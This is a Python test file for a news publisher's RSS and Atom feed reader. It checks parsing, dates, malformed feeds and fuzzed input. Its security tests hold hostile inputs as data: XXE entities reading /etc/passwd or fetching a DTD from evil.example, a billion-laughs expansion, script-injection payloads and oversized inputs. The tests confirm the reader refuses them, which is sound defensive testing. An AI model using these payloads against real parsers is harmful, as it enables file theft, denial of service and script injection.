"""RSS and Atom files: entries with their dates, ids and links, and nothing that a feed may smuggle in."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from publisher.config import Reading
from publisher.errors import EditionError
from publisher.model import Page
from publisher.readers import read_page
from tests.readers import reading

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "feeds"
FIELDS = (
    *("title", "headline", "kind", "section", "byline", "link", "summary", "body", "tags"),
    *("language", "guid", "images", "enclosures"),
)
RSS = (
    '<rss version="2.0"><channel><title>R</title><link>https://r.example/</link>{}</channel></rss>'
)


def page(xml: str | bytes, name: str = "x.xml") -> Page:
    source = xml.encode() if isinstance(xml, str) else xml
    return read_page(source, name=name, options=Reading())


@pytest.mark.parametrize("name", ["blog.rss", "paper.atom"])
def test_reading_equals_its_golden(name: str) -> None:
    read = page((FIXTURES / f"{name}.xml").read_bytes(), f"{name}.xml")
    shown = {
        "front": dict(read.front),
        "stories": [
            reading.filled(story, FIELDS) | {"dated": str(story.dated)} for story in read.stories
        ],
        "findings": reading.codes(read),
    }
    reading.assert_shown(FIXTURES / f"{name}.golden.json", shown)


@pytest.mark.parametrize("suffix", [".xml", ".rss", ".atom"])
def test_a_feed_is_known_by_its_root(suffix: str) -> None:
    assert page(RSS.format("<item><title>T</title></item>"), f"x{suffix}").stories[0].title == "T"


def test_what_is_no_feed_is_an_error() -> None:
    with pytest.raises(EditionError) as raised:
        page("<html><p>words</p></html>", "x.rss")
    assert raised.value.hint


def test_a_broken_feed_is_read_as_far_as_it_goes() -> None:
    read = page(
        RSS.format(
            "<item><title>a & b</title><link>https://r.example/1</link></item><item><title>c"
        )
    )
    assert read.stories[0].link == "https://r.example/1"
    assert "malformed-feed" in {finding.code for finding in read.findings}


@pytest.mark.parametrize("before", ["", '<?xml version="1.0"?>\n', "\n\n", "<!DOCTYPE\nrss>\n"])
def test_what_breaks_a_feed_is_named_with_its_line(before: str) -> None:
    item = "<item><title>a &nope; b</title><link>https://r.example/1</link></item>"
    source = before + RSS.format("\n\n" + item)
    (finding,) = page(source).findings
    assert finding.place.line == source[: source.index("&nope")].count("\n") + 1
    assert "Entity 'nope' not defined" in finding.message


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "b">]>',
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        "<!DOCTYPE rss ["
        + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
        + "]>",
    ],
)
def test_entities_are_refused(doctype: str) -> None:
    with pytest.raises(EditionError, match="entities"):
        page(doctype + RSS.format("<item><title>&a;</title></item>"))


def test_nothing_that_runs_comes_through() -> None:
    body = (
        "&lt;p onclick='bad()'&gt;w&lt;a href='javascript:bad()'&gt;x&lt;/a&gt;"
        "&lt;script&gt;bad()&lt;/script&gt;&lt;iframe src='data:bad'&gt;&lt;/iframe&gt;"
    )
    item = f"<item><title>&lt;b&gt;T&lt;/b&gt;</title><link>javascript:bad()</link><description>{body}</description></item>"
    (story,) = page(RSS.format(item)).stories
    assert story.title == "T"
    assert story.link is None
    assert "bad" not in story.body


def test_the_network_is_never_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    def refuse(*_: object) -> None:
        raise AssertionError("a feed asked for the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    page(
        '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/x.dtd">'
        + RSS.format("<item><title>T</title></item>")
    )
    with pytest.raises(EditionError):
        page("https://r.example/feed.xml", "x.xml")


@pytest.mark.parametrize(
    "xml",
    [
        RSS.format(
            "<item><title>x</title><description>" + "&lt;div&gt;" * 20_000 + "</description></item>"
        ),
        RSS.format("<item>" + "<a>" * 20_000 + "</item>"),
        "<rss>" + "<item>" * 20_000,
        RSS.format("<item><description>" + "&lt;" * 50_000 + "</description></item>"),
        RSS.format("<item><description>&lt;a " + "href=x " * 20_000 + "</description></item>"),
        RSS.format("<item><description><![CDATA[" * 10_000),
        RSS.format("<item><title>" + "x" * 1_000_000 + "</title></item>"),
        RSS.format("<item><pubDate>" + "9" * 100_000 + "</pubDate><title>x</title></item>"),
    ],
    ids=range(8),
)
def test_hostile_feeds_cost_little(xml: str) -> None:
    started = time.process_time()
    try:
        page(xml)
    except EditionError as error:
        assert error.hint
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    "date", ["", "yesterday", "Thu, 99 Nov 2026", "0001-01-01", "99999-01-01T00:00:00Z"]
)
def test_what_is_no_date_is_none(date: str) -> None:
    (story,) = page(RSS.format(f"<item><title>T</title><pubDate>{date}</pubDate></item>")).stories
    assert story.dated is None


TAGS = st.sampled_from(
    (
        *("<item>", "</item>", "<title>", "</title>", "<link>https://a.example/</link>", "<guid>x"),
        *("</guid>", "<pubDate>Thu, 19 Nov 2026 10:00:00 GMT</pubDate>", "<description>", "words"),
        *(
            "</description>",
            "&lt;p&gt;",
            "<![CDATA[",
            "]]>",
            "&amp;",
            "&",
            "<category>c</category>",
        ),
        *(
            "<enclosure url='https://a.example/x' length='1' type='a/b'/>",
            "<author>",
            "</author>",
            "字",
        ),
    )
)


@given(st.lists(TAGS, max_size=30).map("".join))
def test_any_tags_give_a_page_or_an_edition_error(xml: str) -> None:
    try:
        read = page(RSS.format(xml))
    except EditionError as error:
        assert error.hint
    else:
        assert all(story.title for story in read.stories)


@given(st.binary(max_size=200))
def test_any_bytes_give_a_page_or_an_edition_error(source: bytes) -> None:
    for raw in (source, b"<rss>" + source, b"<feed xmlns='http://www.w3.org/2005/Atom'>" + source):
        try:
            page(raw)
        except EditionError as error:
            assert error.hint
